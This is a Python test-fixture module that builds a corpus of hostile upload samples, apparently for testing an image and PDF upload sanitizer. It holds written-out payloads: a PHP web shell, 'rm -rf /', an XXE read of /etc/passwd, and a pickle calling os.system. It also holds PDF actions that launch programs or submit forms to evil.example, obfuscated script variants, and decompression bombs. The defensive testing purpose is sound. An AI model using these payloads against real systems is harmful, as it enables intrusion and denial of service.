"""Files as nobody should send them, made on the spot: the same ones each time."""

import logging
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO
from typing import NamedTuple

import pikepdf
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from PIL.ExifTags import GPS, IFD, Base
from PIL.PngImagePlugin import PngInfo

from tests.documents.raw_pdf import raw_pdf, stream

# It says what it makes of our notes, which are meant to be bad.
logging.getLogger("pikepdf").setLevel(logging.CRITICAL)

MARKER = b"HOSTILE-MARKER"
SCRIPT = b"<script>/*" + MARKER + b"*/alert(1)</script>"


class Sample(NamedTuple):
    """One file of a class; `active`: it must be refused, cleaning it is not enough."""

    family: str
    name: str
    content: bytes
    active: bool = False


def saved(image: Image.Image, format_: str, **options: object) -> bytes:
    out = BytesIO()
    image.save(out, format_, **options)
    return out.getvalue()


def picture(width: int = 320, height: int = 240, mode: str = "RGB") -> Image.Image:
    return Image.radial_gradient("L").resize((width, height)).convert(mode)


def jpeg() -> bytes:
    return saved(picture(), "JPEG")


def png() -> bytes:
    return saved(picture(120, 90), "PNG")


def pdf(**how: object) -> bytes:
    document = pikepdf.new()
    for _ in range(2):
        document.add_blank_page()
    out = BytesIO()
    document.save(out, deterministic_id="encryption" not in how, **how)
    return out.getvalue()


BASES = {"jpg": jpeg, "png": png, "pdf": pdf}


def archive(name: str = "evil.php", content: bytes = SCRIPT) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as zipped:
        zipped.writestr(name, content)
    return out.getvalue()


def foreign() -> Iterator[Sample]:
    """Other content under a name that ends well."""
    heads = {
        "exe": b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff",
        "elf": b"\x7fELF\2\1\1" + b"\0" * 9,
        "macho": b"\xcf\xfa\xed\xfe",
        "class": b"\xca\xfe\xba\xbe\0\0\0\x34",
        "wasm": b"\0asm\1\0\0\0",
        "dex": b"dex\n035\0",
        "html": b"<!doctype html>" + SCRIPT,
        "html-bom": b"\xef\xbb\xbf<html>" + SCRIPT,
        "hta": b"<hta:application>" + SCRIPT,
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "xml-xxe": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
        "php": b"<?php system($_GET[0]); ?>",
        "sh": b"#!/bin/sh\nrm -rf /\n",
        "bat": b"@echo off\r\ndel *.*",
        "ps1": b"Invoke-Expression $x",
        "vbs": b'CreateObject("WScript.Shell")',
        "js": b"eval(name)",
        "lnk": b"L\0\0\0\1\x14\2\0",
        "url": b"[InternetShortcut]\r\nURL=file://evil",
        "postscript": b"%!PS-Adobe-3.0\n(x) run",
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n",
        "rtf": b"{\\rtf1{\\object\\objdata 0}}",
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "zip": archive(),
        "docx": archive("word/document.xml", b"<w:document/>"),
        "jar": archive("META-INF/MANIFEST.MF", b"Main-Class: Evil"),
        "7z": b"7z\xbc\xaf\x27\x1c",
        "rar": b"Rar!\x1a\7\1\0",
        "gz": zlib.compress(b"x", wbits=31),
        "xz": b"\xfd7zXZ\0",
        "cab": b"MSCF\0\0\0\0",
        "iso": b"\0" * 32769 + b"CD001",
        "gif": saved(picture(9, 9, "P"), "GIF"),
        "gif-script": b"GIF89a/*" + b"\0" * 9 + b"*/=1;alert(1)",
        "bmp": saved(picture(9, 9), "BMP"),
        "tiff": saved(picture(9, 9), "TIFF"),
        "webp": b"RIFF\x24\0\0\0WEBPVP8 " + b"\0" * 24,
        "ico": saved(picture(16, 16), "ICO"),
        "ppm": saved(picture(9, 9), "PPM"),
        "psd": b"8BPS\0\1" + b"\0" * 20,
        "heic": b"\0\0\0\x18ftypheic" + b"\0" * 12,
        "jp2": b"\0\0\0\x0cjP  \r\n\x87\n",
        "dds": b"DDS |\0\0\0",
        "fits": b"SIMPLE  =                    T",
        "wmf": b"\xd7\xcd\xc6\x9a",
        "emf": b"\1\0\0\0" + b"\0" * 36 + b" EMF",
        "mp4": b"\0\0\0\x18ftypmp42",
        "mp3": b"ID3\3\0\0\0\0\0\0",
        "swf": b"FWS\x09\0\0\0\0",
        "ttf": b"\0\1\0\0\0\x0c",
        "pickle": b"cos\nsystem\n(S'id'\ntR.",
        "eml": b"From: a@b\r\nSubject: x\r\n\r\n" + SCRIPT,
        "sqlite": b"SQLite format 3\0",
        "nulls": b"\0" * 5000,
        "ones": b"\xff" * 5000,
        "text": b"just words",
        "almost-jpeg": b"\xff\xd8\xfe" + b"\0" * 99,
        "almost-png": b"\x89PNG\n\r\x1a\n" + b"\0" * 99,
        "late-pdf": b"\n" * 1100 + pdf(),
        "random": random.Random(4).randbytes(4000),
    }
    for number, (name, content) in enumerate(heads.items()):
        ending = ("jpg", "png", "pdf")[number % 3]
        yield Sample("foreign content", f"{name}.{ending}", content, active=True)


def polyglots() -> Iterator[Sample]:
    """A good file that is something else as well."""
    tails = {
        "html": b"<html>" + SCRIPT,
        "php": b"<?php /*" + MARKER + b"*/ system(1); ?>",
        "zip": archive("x", MARKER),
        "exe": b"MZ" + MARKER * 9,
        "svg": b"<svg onload='alert(1)'>" + MARKER + b"</svg>",
        "js": b"*/;alert('" + MARKER + b"')//",
        "shell": b"\n#!/bin/sh\n" + MARKER,
        "nulls": b"\0" * 10_000 + MARKER,
    }
    for ending, base in BASES.items():
        for name, tail in tails.items():
            yield Sample("polyglot", f"{name} after.{ending}", base() + tail)
    head, rest = jpeg()[:2], jpeg()[2:]
    for name, tail in tails.items():
        if len(tail) < 65_000:
            comment = b"\xff\xfe" + struct.pack(">H", len(tail) + 2) + tail
            yield Sample("polyglot", f"{name} in a comment.jpg", head + comment + rest)
    yield Sample("polyglot", "html before.pdf", b"<html>" + SCRIPT + pdf())
    yield Sample("polyglot", "gif before.pdf", b"GIF89a" + MARKER + pdf())
    yield Sample("polyglot", "zip before.pdf", archive("x", MARKER) + pdf())
    yield Sample("polyglot", "jpeg then pdf.jpg", jpeg() + pdf() + MARKER)
    yield Sample("polyglot", "pdf then jpeg.pdf", pdf() + MARKER + jpeg())


def metadata() -> Iterator[Sample]:
    """Place, device and payloads where programs keep notes about a picture."""
    for name, value in {"names": MARKER, "script": SCRIPT, "long": MARKER * 1500}.items():
        exif = Image.Exif()
        exif[Base.Make] = value.decode()
        exif[Base.ImageDescription] = value.decode()
        exif.get_ifd(IFD.GPSInfo)[GPS.GPSLatitude] = (31.0, 33.0, 0.0)
        yield Sample("metadata", f"exif {name}.jpg", saved(picture(), "JPEG", exif=exif))
        yield Sample("metadata", f"exif {name}.png", saved(picture(), "PNG", exif=exif))
        yield Sample("metadata", f"xmp {name}.jpg", saved(picture(), "JPEG", xmp=value))
        yield Sample("metadata", f"icc {name}.jpg", saved(picture(), "JPEG", icc_profile=value))
        yield Sample("metadata", f"icc {name}.png", saved(picture(), "PNG", icc_profile=value))
        texts = PngInfo()
        texts.add_text("Author", value.decode())
        texts.add_text("Zipped", value.decode(), zip=True)
        texts.add_itxt("XML:com.adobe.xmp", value.decode())
        yield Sample("metadata", f"texts {name}.png", saved(picture(), "PNG", pnginfo=texts))
        described = pikepdf.open(BytesIO(pdf()))
        described.trailer.Info = described.make_indirect(Dictionary(Author=String(value.decode())))
        described.Root.Metadata = described.make_stream(value, Type=Name.Metadata)
        described.Root.PieceInfo = Dictionary(Evil=Dictionary(Private=String(value.decode())))
        described.pages[0].obj.PieceInfo = described.Root.PieceInfo
        out = BytesIO()
        described.save(out, deterministic_id=True)
        yield Sample("metadata", f"document information {name}.pdf", out.getvalue())


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def raw_png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IEND", b"")


def deflated(size: int, times: int = 1) -> bytes:
    """Nothing, so often and packed so well that it is small."""
    packer = zlib.compressobj(9, wbits=-15)
    piece = packer.compress(b"\0" * (1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = struct.pack(">HH", size % 65_521, 1)
    data = b"\x78\xda" + piece * (size >> 20) + b"\3\0" + checksum
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def many_scans(scans: int) -> bytes:
    """A progressive JPEG that paints its last scan over and over."""
    progressive = saved(picture(1600, 1200), "JPEG", progressive=True)
    last = progressive.rindex(b"\xff\xda")
    return progressive[:-2] + progressive[last:-2] * scans + b"\xff\xd9"


def image_bombs() -> Iterator[Sample]:
    """Pictures that are much larger than their files."""
    small = chunk(b"IDAT", zlib.compress(b"\0" * 4000))
    for width, height in (
        (30_000, 30_000),
        (65_535, 65_535),
        (2**31 - 1, 2**31 - 1),
        (2**31 - 1, 1),
        (1, 2**31 - 1),
        (40_000_000, 1),
        (6400, 6300),
        (0, 0),
    ):
        yield Sample("image bomb", f"{width} x {height}.png", raw_png(width, height, small))
    for name, (depth, colour, bits) in {
        "colour": (8, 2, 24),
        "transparent": (8, 6, 32),
        "palette": (8, 3, 8),
        "grey": (8, 0, 8),
        "16 bits of grey": (16, 0, 16),
        "16 bits a colour": (16, 6, 64),
    }.items():
        rows = -(-6320 * (1 + 6320 * bits // 8) >> 20)
        palette = chunk(b"PLTE", bytes(768)) if colour == 3 else b""
        full = chunk(b"IDAT", deflated((rows + 1) << 20))
        yield Sample(
            "image bomb",
            f"40 megapixels, {name}.png",
            raw_png(6320, 6320, palette + full, depth=depth, colour=colour),
        )
    bomb = deflated(64 << 20)
    yield Sample("image bomb", "unpacks to 64 MiB.png", raw_png(9, 9, chunk(b"IDAT", bomb)))
    yield Sample(
        "image bomb", "30k.png", raw_png(30_000, 30_000, chunk(b"IDAT", bomb), depth=1, colour=0)
    )
    for name, text in {
        "zTXt": b"Comment\0\0" + bomb,
        "iTXt": b"Comment\0\1\0\0\0" + bomb,
        "iCCP": b"icc\0\0" + bomb,
    }.items():
        good = zlib.compress(b"\0" + b"\0" * 27, 9)
        data = raw_png(9, 9, chunk(name.encode(), text), chunk(b"IDAT", zlib.compress(good * 9)))
        yield Sample("image bomb", f"{name}.png", data)
    frames = [picture(200, 200).rotate(angle) for angle in range(120)]
    yield Sample(
        "image bomb",
        "120 frames.png",
        saved(frames[0], "PNG", save_all=True, append_images=frames[1:]),
    )
    for number in (99, 400, 2000):
        yield Sample("image bomb", f"{number} scans.jpg", many_scans(number))
    good = jpeg()
    sof = good.index(b"\xff\xc0")
    for side in (65_500, 65_535, 0):
        changed = good[: sof + 5] + struct.pack(">HH", side, side) + good[sof + 9 :]
        yield Sample("image bomb", f"frame of {side}.jpg", changed)
    segments = b"".join(b"\xff\xe1\xff\xff" + b"\0" * 65_533 for _ in range(70))
    yield Sample("image bomb", "70 long segments.jpg", good[:2] + segments + good[2:])
    many = b"".join(chunk(b"tEXt", b"k\0" + MARKER) for _ in range(50_000))
    yield Sample("image bomb", "50,000 texts.png", raw_png(9, 9, many, small))


def damaged() -> Iterator[Sample]:
    """Cut off, with bytes changed, with pieces swapped."""
    for ending, base in BASES.items():
        content = base()
        for part in range(1, 11):
            cut = len(content) * part // 11
            yield Sample("cut off", f"{part} of 11.{ending}", content[:cut])
        for seed in range(12):
            chance, flipped = random.Random(seed), bytearray(content)
            for _ in range(1 + seed):
                flipped[chance.randrange(8, len(flipped))] ^= 1 << chance.randrange(8)
            yield Sample("changed bytes", f"{seed}.{ending}", bytes(flipped))
        half = len(content) // 2
        yield Sample(
            "changed bytes", f"swapped.{ending}", content[:8] + content[half:] + content[8:half]
        )


ACTIONS = {
    "script": {"S": Name.JavaScript, "JS": String("app.alert(1)")},
    "launch": {"S": Name.Launch, "F": String("calc.exe")},
    "submit": {"S": Name.SubmitForm, "F": String("http://evil.example/")},
    "import": {"S": Name.ImportData, "F": String("x.fdf")},
    "go to an embedded file": {"S": Name.GoToE, "T": Dictionary(R=Name.C, N=String("x"))},
    "go to another file": {"S": Name.GoToR, "F": String("\\\\evil\\share\\x.pdf"), "D": Array([0])},
    "rendition": {"S": Name.Rendition, "OP": 0, "JS": String("1")},
    "sound": {"S": Name.Sound},
    "movie": {"S": Name.Movie},
    "rich media": {"S": Name("/RichMediaExecute")},
    "3d": {"S": Name.GoTo3DView},
    "javascript address": {"S": Name.URI, "URI": String("javascript:alert(1)")},
    "file address": {"S": Name.URI, "URI": String("file:///c:/windows/system32/calc.exe")},
    "blurred address": {"S": Name.URI, "URI": String(" jAva\tscript:alert(1)")},
}


def _open(d: pikepdf.Pdf, a: pikepdf.Object) -> None:
    d.Root.OpenAction = a


def _of_the_catalog(d: pikepdf.Pdf, a: pikepdf.Object) -> None:
    d.Root.AA = Dictionary(WC=a)


def _of_a_page(d: pikepdf.Pdf, a: pikepdf.Object) -> None:
    d.pages[1].obj.AA = Dictionary(O=a)


def _annotation(d: pikepdf.Pdf, **keys: object) -> None:
    box = Array([0, 0, 100, 100])
    d.pages[0].obj.Annots = Array(
        [d.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=box, **keys))]
    )


def _outline(d: pikepdf.Pdf, a: pikepdf.Object) -> None:
    item = d.make_indirect(Dictionary(Title=String("x"), A=a))
    d.Root.Outlines = d.make_indirect(Dictionary(First=item, Last=item, Count=1))
    item.Parent = d.Root.Outlines


def _named(d: pikepdf.Pdf, a: pikepdf.Object) -> None:
    d.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), a])))


def _field(d: pikepdf.Pdf, a: pikepdf.Object) -> None:
    field = Dictionary(FT=Name.Tx, T=String("f"), AA=Dictionary(K=a))
    d.Root.AcroForm = Dictionary(Fields=Array([d.make_indirect(field)]))


def _next(d: pikepdf.Pdf, a: pikepdf.Object) -> None:
    d.Root.OpenAction = Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([a]))


def _deep(d: pikepdf.Pdf, a: pikepdf.Object) -> None:
    for _ in range(40):
        a = Array([a])
    d.pages[0].obj.Resources = Dictionary(Properties=Dictionary(X=Dictionary(Y=a)))


PLACES = {
    "when opened": _open,
    "when closed": _of_the_catalog,
    "of a page": _of_a_page,
    "of a link": lambda d, a: _annotation(d, A=a),
    "when touched": lambda d, a: _annotation(d, AA=Dictionary(E=a)),
    "of a bookmark": _outline,
    "by name": _named,
    "of a field": _field,
    "after another": _next,
    "deep inside": _deep,
}


def changed(change: object, **how: object) -> bytes:
    document = pikepdf.open(BytesIO(pdf()))
    change(document)
    out = BytesIO()
    document.save(out, deterministic_id=True, **how)
    return out.getvalue()


def active() -> Iterator[Sample]:
    """PDFs that do more than be read, wherever it is hidden."""
    packed = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    for number, (place, put) in enumerate(PLACES.items()):
        for order, (action, keys) in enumerate(ACTIONS.items()):

            def change(d: pikepdf.Pdf, put=put, keys=keys) -> None:
                put(d, d.make_indirect(Dictionary(**keys)))

            how = packed if (number + order) % 2 else {}
            yield Sample("active PDF", f"{action} {place}.pdf", changed(change, **how), active=True)
    for name, change in {
        "embedded": lambda d: d.attachments.__setitem__("x.exe", b"MZ"),
        "attached": lambda d: _annotation_of(d, "FileAttachment", FS=Dictionary(EF=Dictionary())),
        "rich media": lambda d: _annotation_of(d, "RichMedia", RichMediaContent=Dictionary()),
        "3d": lambda d: _annotation_of(d, "3D"),
        "film": lambda d: _annotation_of(d, "Movie", Movie=Dictionary(F=String("x.avi"))),
        "screen": lambda d: _annotation_of(d, "Screen"),
        "sound": lambda d: _annotation_of(d, "Sound"),
        "xfa": lambda d: setattr(
            d.Root, "AcroForm", Dictionary(Fields=Array(), XFA=d.make_stream(b"<xdp/>"))
        ),
        "content elsewhere": lambda d: setattr(
            d.pages[0].obj, "Contents", pikepdf.Stream(d, b"", Dictionary(F=String("x")))
        ),
        "PostScript": lambda d: setattr(
            d.pages[0].obj,
            "Resources",
            Dictionary(XObject=Dictionary(P=pikepdf.Stream(d, b"", Dictionary(Subtype=Name.PS)))),
        ),
        "portfolio": lambda d: (
            d.attachments.__setitem__("x.pdf", pdf()),
            setattr(d.Root, "Collection", Dictionary(View=Name.D)),
        ),
    }.items():
        yield Sample("active PDF", f"{name}.pdf", changed(change), active=True)
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    page = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    }
    page[3] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >>"
    for name, action in {
        "escaped names": script.replace(b"JavaScript", b"J#61va#53cript").replace(b"/JS", b"/#4aS"),
        "hexadecimal string": script.replace(b"(app.alert\\(1\\))", b"<6170702e616c657274>"),
        "comments between": script.replace(b"/JS", b"%\n/JS %x\n"),
        "no blanks": script.replace(b" ", b""),
        "script as a stream": b"<< /S /JavaScript /JS 4 0 R >>",
        "key twice": script.replace(b"/S", b"/S /GoTo /S"),
    }.items():
        objects = page | {1: page[1] % (b"/OpenAction " + action), 4: stream(b"app.alert(1)")}
        yield Sample("active PDF", f"{name}.pdf", raw_pdf(objects), active=True)
    clean = raw_pdf(page | {1: page[1] % b""})
    update = b"\n1 0 obj\n" + page[1] % (b"/OpenAction " + script) + b"\nendobj\n"
    at = len(clean) + 1
    later = update + b"xref\n1 1\n%010d 00000 n \ntrailer\n<< /Root 1 0 R /Size 4 /Prev %d >>\n" % (
        at,
        int(clean.split(b"startxref\n")[1].split(b"\n")[0]),
    )
    later += b"startxref\n%d\n%%%%EOF\n" % (at + len(update) - 1)
    yield Sample("active PDF", "in an update.pdf", clean + later, active=True)
    hidden = raw_pdf(page | {1: page[1] % b"", 4: script, 5: b"<< /Next 4 0 R >>"})
    yield Sample("active PDF", "in an object of no page.pdf", hidden, active=True)


def _annotation_of(d: pikepdf.Pdf, subtype: str, **keys: object) -> None:
    _annotation(d, **keys)
    d.pages[0].obj.Annots[0].Subtype = Name(f"/{subtype}")


def encrypted() -> Iterator[Sample]:
    """PDFs that need a password, or would in another reader."""
    for revision in (2, 3, 4, 6):
        for user in ("", "secret"):
            how = pikepdf.Encryption(
                user=user, owner="owner", R=revision, aes=revision > 3, metadata=revision > 3
            )
            name = f"revision {revision}, {'opens' if not user else 'closed'}.pdf"
            yield Sample("encrypted PDF", name, pdf(encryption=how), active=True)
    escaped = pdf(encryption=pikepdf.Encryption(user="", owner="x", R=4))
    escaped = escaped.replace(b"/Encrypt ", b"/#45ncrypt ")
    yield Sample("encrypted PDF", "escaped.pdf", escaped, active=True)


ROOT = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def one_page(page: bytes = b"", more: dict[int, bytes] | None = None, **changes: bytes) -> bytes:
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] " + page + b" >>"
    return raw_pdf({1: ROOT, 2: PAGES, 3: leaf} | (more or {}))


def painted(data: bytes, keys: bytes) -> bytes:
    """A page that shows one stream as a picture."""
    drawn = b"/Resources << /XObject << /I 4 0 R >> >> /Contents 5 0 R"
    content = stream(b"q 612 0 0 792 0 0 cm /I Do Q")
    return one_page(drawn, {4: stream(data, b"/Type /XObject /Subtype /Image " + keys), 5: content})


def pdf_bombs() -> Iterator[Sample]:
    """PDFs that are much more than their files, or without end."""
    gigabyte = deflated(1 << 30)
    yield Sample(
        "PDF bomb",
        "1 GiB of content.pdf",
        one_page(b"/Contents 4 0 R", {4: stream(gigabyte, b"/Filter /FlateDecode")}),
    )
    twice = b"/Filter [/FlateDecode /FlateDecode]"
    yield Sample(
        "PDF bomb",
        "packed twice.pdf",
        one_page(b"/Contents 4 0 R", {4: stream(deflated(1 << 30, 2), twice)}),
    )
    thrice = b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"
    yield Sample(
        "PDF bomb",
        "packed thrice.pdf",
        one_page(b"/Contents 4 0 R", {4: stream(deflated(1 << 30, 3), thrice)}),
    )
    runs = b"\x81\0" * 2_000_000
    yield Sample(
        "PDF bomb",
        "run lengths.pdf",
        one_page(b"/Contents 4 0 R", {4: stream(runs, b"/Filter /RunLengthDecode")}),
    )
    zipped_runs = zlib.compress(b"\x81\0" * 40_000_000, 9)
    yield Sample(
        "PDF bomb",
        "run lengths, packed.pdf",
        one_page(
            b"/Contents 4 0 R", {4: stream(zipped_runs, b"/Filter [/FlateDecode /RunLengthDecode]")}
        ),
    )
    many = {number: stream(deflated(30 << 20), b"/Filter /FlateDecode") for number in range(4, 24)}
    kids = b" ".join(b"%d 0 R" % number for number in many)
    yield Sample("PDF bomb", "600 MiB in parts.pdf", one_page(b"/Contents [" + kids + b"]", many))
    flat = b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode"
    for side in (60_000, 7_000, 2**31 - 1, -1):
        size = b"/Width %d /Height %d " % (side, side)
        yield Sample("PDF bomb", f"picture of {side}.pdf", painted(deflated(1 << 20), size + flat))
    good = jpeg()
    sof = good.index(b"\xff\xc0")
    huge = good[: sof + 5] + struct.pack(">HH", 65_500, 65_500) + good[sof + 9 :]
    dct = b"/Width 320 /Height 240 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode"
    yield Sample("PDF bomb", "JPEG of 65500.pdf", painted(huge, dct))
    yield Sample("PDF bomb", "JPEG of 400 scans.pdf", painted(many_scans(400), dct))
    yield Sample(
        "PDF bomb", "100,000 objects.pdf", one_page(b"", dict.fromkeys(range(4, 100000), b"[]"))
    )
    yield Sample("PDF bomb", "50 pages.pdf", pages(50))
    yield Sample(
        "PDF bomb",
        "a page, 100,000 times.pdf",
        raw_pdf(
            {
                1: ROOT,
                2: b"<< /Type /Pages /Count 100000 /Kids [" + b"3 0 R " * 100_000 + b"] >>",
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
            }
        ),
    )
    for depth in (400, 10_000, 1_000_000):
        nested = b"[" * depth + b"]" * depth
        yield Sample("PDF bomb", f"{depth} arrays deep.pdf", one_page(b"/X " + nested))
    nested = b"<< /A " * 50_000 + b"1" + b" >>" * 50_000
    yield Sample("PDF bomb", "50,000 dictionaries deep.pdf", one_page(b"/X " + nested))
    chain = {
        n: b"<< /Type /Pages /Count 1 /Parent %d 0 R /Kids [%d 0 R] >>" % (n - 1, n + 1)
        for n in range(3, 6000)
    }
    yield Sample(
        "PDF bomb",
        "a tree 6,000 deep.pdf",
        raw_pdf(
            {
                1: ROOT,
                2: PAGES,
                **chain,
                6000: b"<< /Type /Page /Parent 5999 0 R /MediaBox [0 0 9 9] >>",
            }
        ),
    )
    inside = b"q " * 500_000 + b"Q " * 500_000
    yield Sample(
        "PDF bomb", "a million operators.pdf", one_page(b"/Contents 4 0 R", {4: stream(inside)})
    )
    xref = zlib.compress(b"\0" * 60_000_000, 9)
    tricky = (
        b"%%PDF-1.7\n1 0 obj\n<< /Type /XRef /Size 10000000 /W [1 4 1] /Root 2 0 R /Filter /FlateDecode /Length %d >>\nstream\n"
        % len(xref)
    )
    tricky += xref + b"\nendstream\nendobj\nstartxref\n9\n%%EOF"
    yield Sample("PDF bomb", "10,000,000 entries.pdf", tricky)
    packed = deflated(300 << 20)
    yield Sample(
        "PDF bomb",
        "300 MiB of objects.pdf",
        one_page(
            b"/X 5 0 R", {4: stream(packed, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")}
        ),
    )


def pages(number: int) -> bytes:
    document = pikepdf.new()
    for _ in range(number):
        document.add_blank_page()
    out = BytesIO()
    document.save(out)
    return out.getvalue()


def malformed() -> Iterator[Sample]:
    """PDFs against the rules of PDF."""
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 4 0 R >> >>"
    drawn = b"/Resources << /XObject << /F 4 0 R >> >> /Contents 5 0 R"
    for name, content in {
        "no pages": raw_pdf({1: ROOT, 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
        "no catalog": raw_pdf({1: b"<< >>"}),
        "nothing": b"%PDF-1.7\n",
        "only an end": b"%PDF-1.7\n%%EOF",
        "a tree that bites its tail": raw_pdf(
            {1: ROOT, 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}
        ),
        "parents in a ring": raw_pdf(
            {
                1: ROOT,
                2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                3: b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
            }
        ),
        "a form inside itself": one_page(drawn, {4: stream(b"/F Do", form), 5: stream(b"/F Do")}),
        "resources that hold themselves": one_page(
            b"/Resources 4 0 R", {4: b"<< /XObject << /R 4 0 R >> >>"}
        ),
        "a length that is not": one_page(
            b"/Contents 4 0 R", {4: b"<< /Length 99999999 >>\nstream\nq Q\nendstream"}
        ),
        "a negative length": one_page(
            b"/Contents 4 0 R", {4: b"<< /Length -5 >>\nstream\nq Q\nendstream"}
        ),
        "a length that is itself": one_page(
            b"/Contents 4 0 R", {4: b"<< /Length 4 0 R >>\nstream\nq Q\nendstream"}
        ),
        "an unknown filter": one_page(b"/Contents 4 0 R", {4: stream(b"q Q", b"/Filter /Evil")}),
        "a hundred filters": one_page(
            b"/Contents 4 0 R", {4: stream(b"q Q", b"/Filter [" + b"/FlateDecode " * 100 + b"]")}
        ),
        "bad packing": one_page(
            b"/Contents 4 0 R", {4: stream(b"\x78\x9cgarbage", b"/Filter /FlateDecode")}
        ),
        "an endless page": one_page(b"/MediaBox [0 0 1e30 1e30]"),
        "a page of nothing": one_page(b"/MediaBox [0 0 0 0]"),
        "a page that is a word": one_page(b"/MediaBox /No"),
        "a kid that is a number": raw_pdf({1: ROOT, 2: b"<< /Type /Pages /Kids [7] /Count 1 >>"}),
        "a kid that is not there": raw_pdf(
            {1: ROOT, 2: b"<< /Type /Pages /Kids [99 0 R] /Count 1 >>"}
        ),
        "annotations that are none": one_page(b"/Annots [1 (x) /y null 99 0 R]"),
        "a form that is a number": raw_pdf(
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm 7 >>",
                2: PAGES,
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
            }
        ),
        "fields in a ring": raw_pdf(
            {
                1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] >> >>",
                2: PAGES,
                3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots [4 0 R] >>",
                4: b"<< /FT /Tx /T (x) /Kids [4 0 R] /Parent 4 0 R /Subtype /Widget /Rect [0 0 9 9] >>",
            }
        ),
        "zeros": b"%PDF-1.4\n" + b"\0" * 100_000,
        "garbage": b"%PDF-1.4\n" + random.Random(7).randbytes(100_000),
        "xref in a ring": pdf().replace(
            b"%%EOF", b"%%EOF\nxref\n0 0\ntrailer << /Prev 20 >>\nstartxref\n20\n%%EOF"
        ),
        "a million blanks": b"%PDF-1.7" + b" " * 1_000_000,
        "a million objects begun": b"%PDF-1.7\n" + b"1 0 obj\n" * 300_000,
        "strings without end": b"%PDF-1.7\n1 0 obj\n" + b"(" * 1_000_000,
    }.items():
        yield Sample("malformed PDF", f"{name}.pdf", content)


def sizes() -> Iterator[Sample]:
    """Too little, too much."""
    most = 5 * 1024 * 1024
    yield Sample("size", "nothing.pdf", b"", active=True)
    for ending, base in BASES.items():
        yield Sample("size", f"one byte.{ending}", base()[:1], active=True)
        yield Sample("size", f"too large.{ending}", base() + b"\0" * most, active=True)
        yield Sample("size", f"padded to 5 MiB.{ending}", base() + b"\0" * (most - len(base())))


FAMILIES = (
    *(foreign, polyglots, metadata, image_bombs, damaged),
    *(active, encrypted, pdf_bombs, malformed, sizes),
)


def corpus() -> Iterator[Sample]:
    """All of them, one family after the other."""
    for family in FAMILIES:
        yield from family()
